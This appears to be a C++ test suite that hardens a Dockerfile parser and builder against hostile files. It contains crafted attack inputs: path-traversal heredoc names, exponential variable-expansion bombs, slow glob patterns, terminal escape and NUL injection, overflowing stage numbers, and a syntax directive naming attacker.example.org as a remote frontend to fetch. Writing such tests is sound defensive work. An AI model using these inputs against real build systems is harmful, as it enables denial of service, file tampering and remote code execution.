// Attack 15: Dockerfiles that are meant to break their reader.
#include "attacks/attack.hpp"
#include "dockerfile/parser.hpp"

#include <fmt/format.h>

#include <chrono>

namespace nacre::engine::test {
namespace {

class Attack15 : public AttackTest {
protected:
    /// All findings of a text, which is read in a time that no build notices.
    static std::string findings(const std::string& text) {
        constexpr double kSecondsMax = 10;
        const auto start = std::chrono::steady_clock::now();
        const dockerfile::ParseResult result = dockerfile::parse(text, "Dockerfile");
        const std::chrono::duration<double> took = std::chrono::steady_clock::now() - start;
        EXPECT_LT(took.count(), kSecondsMax);
        return result.ok() ? "" : render(result.diagnostics);
    }

    static std::string repeated(const std::string& text, int count) {
        std::string all;
        for (int i = 0; i < count; ++i)
            all += text;
        return all;
    }
};

TEST_F(Attack15, LinesAndFilesAreHuge) {
    EXPECT_THAT(findings("FROM a\nRUN " + std::string(64U << 20U, 'x')), HasSubstr("at most"));
    EXPECT_THAT(findings("FROM a\nRUN " + std::string(2U << 20U, 'x')), HasSubstr("at most"));
    EXPECT_THAT(findings("FROM a\nRUN x" + repeated("\\\n y", 1'000'000)), HasSubstr("at most"));
    EXPECT_THAT(findings(repeated("FROM a\n", 10'001)), HasSubstr("stages"));
    EXPECT_THAT(findings("FROM a\n" + repeated("RUN x\n", 20'000)), HasSubstr("instructions"));
}

TEST_F(Attack15, DocumentsDoNotEndOrHaveNamesThatLeadOut) {
    EXPECT_THAT(findings("FROM a\nRUN <<E\ntext\n"), HasSubstr("E"));
    EXPECT_THAT(findings("FROM a\nCOPY <<a <<b /x/\n1\na\n"), HasSubstr("b"));
    for (const std::string& name :
         {"../../../../../.." + canary().string(), canary().string(), std::string{"a/../../b"}})
        expect_harmless(
            fmt::format("FROM busybox:1\nCOPY <<\"{0}\" /x/\ndead\n{0}\nRUN true\n", name));
    expect_harmless("FROM busybox:1\nRUN <<\"../../canary\"\n#!/bin/sh\necho dead\n../../canary\n");
}

TEST_F(Attack15, TextIsNoUtf8) {
    EXPECT_THAT(findings(std::string{"FROM a\nRUN a\0b\n", 15}), HasSubstr("NUL"));
    EXPECT_EQ(
        findings("\xEF\xBB\xBF"
                 "FROM a\n"),
        "");
    EXPECT_NE(
        findings(std::string{
            "\xFF\xFE"
            "F\0R\0O\0M\0 \0a\0\n\0",
            16}),
        "");
    EXPECT_THAT(findings("FROM a\n\xE2\x80\xAE RUN x\n"), Not(HasSubstr("\xE2\x80\xAE RUN x: ")));
    EXPECT_THAT(findings("FROM a\nNOSUCH\x1b[2Jx\n"), Not(HasSubstr("\x1b")));
}

TEST_F(Attack15, VariablesExpandWithoutEnd) {
    EXPECT_THAT(
        refusal("FROM busybox:1\nENV A=" + repeated("${A:-", 1000) + repeated("}", 1000) + "\n"),
        HasSubstr("nested"));
    std::string doubling = "FROM busybox:1\nARG A0=xxxxxxxxxxxxxxxx\n";
    for (int i = 1; i < 40; ++i)
        doubling += fmt::format("ARG A{}=$A{}$A{}\n", i, i - 1, i - 1);
    EXPECT_THAT(refusal(doubling), HasSubstr("bytes"));
    // Its own value, which is that from before.
    EXPECT_NO_THROW(build("FROM busybox:1\nENV A=$A$A\nENV A=x$A\nRUN test $A = x\n"));
}

TEST_F(Attack15, PatternsOfVariablesAreMadeToBeSlow) {
    const auto start = std::chrono::steady_clock::now();
    expect_harmless(
        "FROM busybox:1\nARG A=" + std::string(100'000, 'a') + "\nENV B=${A//" + repeated("*a", 200)
        + "b/x} C=${A##" + repeated("*a", 200) + "b} D=${A%%" + repeated("?*", 200) + "b}\n");
    EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds{30});
}

TEST_F(Attack15, JsonFormsAreWrong) {
    // What is no JSON is shell form, as everywhere; it runs inside the container only.
    for (const char* text : {"[\"a\"", "[1,2]", "[\"a\",]", "['a']", "[\"\\ud800\"]", "[[\"a\"]]"})
        expect_harmless(std::string{"FROM busybox:1\nRUN "} + text + "\n");
    EXPECT_NE(findings("FROM a\nCOPY [\"a\"]\n"), "");
    EXPECT_THAT(findings("FROM a\nSHELL sh -c\n"), HasSubstr("SHELL"));
}

TEST_F(Attack15, StagesAreCyclesAndNumbersOverflow) {
    EXPECT_NE(
        refusal(
            "FROM busybox:1 AS a\nCOPY --from=b /x /\nFROM busybox:1 AS b\nCOPY --from=a /x /\n"),
        "");
    EXPECT_NE(refusal("FROM busybox:1 AS a\nCOPY --from=a /x /\n"), "");
    EXPECT_NE(refusal("FROM busybox:1 AS a\nCOPY --from=0 /x /\n"), "");
    EXPECT_NE(refusal("FROM a AS a\n"), "");
    for (const char* number :
         {"999999999999999999999999", "-1", "18446744073709551616", "4294967296"})
        EXPECT_THAT(
            refusal(fmt::format("FROM busybox:1\nCOPY --from={} /x /\n", number)),
            HasSubstr(number));
}

TEST_F(Attack15, ForeignFrontendIsNeverFetched) {
    // CVE-2026-33747: the reader of a Dockerfile is ours, whatever the file asks for.
    EXPECT_EQ(
        build("# syntax=attacker.example.org/frontend:1\nFROM busybox:1\nRUN echo ours\n"),
        "ours\n");
    machine().build_args = {{"BUILDKIT_SYNTAX", "attacker.example.org/frontend:1"}};
    EXPECT_EQ(build("FROM busybox:1\nRUN echo ours\n"), "ours\n");
}

}  // namespace
}  // namespace nacre::engine::test
